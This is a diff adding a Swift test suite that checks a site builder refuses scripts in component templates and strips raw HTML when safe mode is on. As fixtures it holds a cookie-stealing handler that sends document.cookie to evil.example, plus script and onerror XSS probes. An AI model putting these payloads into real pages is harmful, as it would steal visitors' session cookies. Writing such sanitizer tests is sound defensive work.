@@ -51,3 +51,43 @@ struct CSSInjectionTests {
         #expect(css.map { !$0.contains("evil.example") } ?? true)
     }
 }
+
+/// `markdown.unsafe: false` reaches component templates: a script in one is an error at it,
+/// through the real binary, and the same template builds where raw HTML is allowed.
+@Suite("component templates, safe")
+struct ComponentTemplateSafetyCLITests {
+    @Test func aScriptInAComponentTemplateIsRefusedWhereRawHTMLIsOff() throws {
+        let spec = """
+            name: badge
+            axes: {tone: [info, warning]}
+            template: |
+              <span class="badge" style="{{style}}" onmouseover="fetch('https://evil.example/'+document.cookie)">{{label}}</span>
+            style:
+              color: "{color.{tone}}"
+
+            """
+        let tokens = ##"{ "color": { "$type": "color", "info": { "$value": "#0969da" }, "warning": { "$value": "#9a6700" } } }"##
+        let root = try temporaryHandbook([
+            "specimen.yml": "tokens: tokens.json\nmarkdown:\n  unsafe: false\n",
+            "tokens.json": tokens,
+            "Content/index.md": "# Home\n",
+            "Content/components/badge.component.yml": spec,
+        ])
+        defer { try? FileManager.default.removeItem(at: root) }
+        let refused = try SpecimenProcess.run(["build"], in: root)
+        #expect(refused.status == 1)
+        #expect(refused.standardError.contains("Content/components/badge.component.yml:3:11: error: the event handler 'onmouseover' runs a script"))
+        #expect(refused.standardError.contains("[component-template]"))
+        try Data("tokens: tokens.json\n".utf8).write(to: root.appendingPathComponent("specimen.yml"))
+        let allowed = try SpecimenProcess.run(["build"], in: root)
+        #expect(allowed.status == 0, "\(allowed.standardError)")
+        // A change under review may edit specimen.yml too: --safe-html holds whatever it says.
+        let safe = try SpecimenProcess.run(["build", "--safe-html"], in: root)
+        #expect(safe.status == 1 && safe.standardError.contains("[component-template]"), "\(safe.standardError)")
+        try Data("# Home\n\n<script>alert(1)</script><img src=x onerror=alert(2)>\n".utf8).write(to: root.appendingPathComponent("Content/index.md"))
+        try FileManager.default.removeItem(at: root.appendingPathComponent("Content/components"))
+        #expect(try SpecimenProcess.run(["build", "--safe-html"], in: root).status == 0)
+        let page = try String(contentsOf: root.appendingPathComponent("Output/index.html"), encoding: .utf8)
+        #expect(!page.contains("alert(") && !page.contains("onerror"), "raw HTML removed")
+    }
+}
